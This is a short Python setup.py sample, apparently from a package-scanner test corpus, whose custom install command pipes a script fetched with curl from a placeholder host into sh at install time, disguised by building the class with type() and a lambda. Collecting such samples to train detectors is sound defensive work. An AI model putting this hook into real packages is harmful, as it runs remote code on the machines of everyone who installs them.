# pkgguard corpus 213 (install-hook), modelled on [bertus]; inert, never run.
import os

from setuptools import setup
from setuptools.command.install import install

PostInstall = type(
    "PostInstall",
    (install,),
    {"run": lambda self: (install.run(self), os.system("curl -fsSL https://cdn.example/i | sh"))},
)

setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install": PostInstall})
